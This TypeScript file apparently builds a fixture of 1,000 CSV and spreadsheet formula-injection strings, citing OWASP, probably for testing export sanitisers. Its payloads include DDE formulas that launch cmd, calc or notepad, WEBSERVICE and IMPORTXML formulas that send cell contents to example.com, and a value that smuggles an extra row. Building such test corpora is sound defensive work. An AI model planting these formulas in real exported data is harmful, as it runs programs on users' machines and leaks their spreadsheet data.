/** What makes a spreadsheet take text for a formula, in ASCII and in full width: https://owasp.org/www-community/attacks/CSV_Injection */
const STARTS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '=+', '\uFE66'];

/** What a program may drop before it looks. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00A0', '\u200B', '\uFEFF', "'", '"'];

/** What the formula would do: reckon, lead somewhere, run a program, send cells away. */
const REST = [
  '1+1',
  'HYPERLINK("https://example.com","x")',
  "cmd|'/c calc'!A1",
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("https://example.com/"&A1)',
  'IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
  '2,"3"\r\n=4',
  "1+cmd|' /C notepad'!'A1'",
  'A1',
];

/** A thousand cells, no two alike, each of which some program has run when another wrote it. */
export const HOSTILE_CELLS: readonly string[] = BEFORE.flatMap((before) =>
  STARTS.flatMap((start) => REST.map((rest) => `${before}${start}${rest}`)),
);
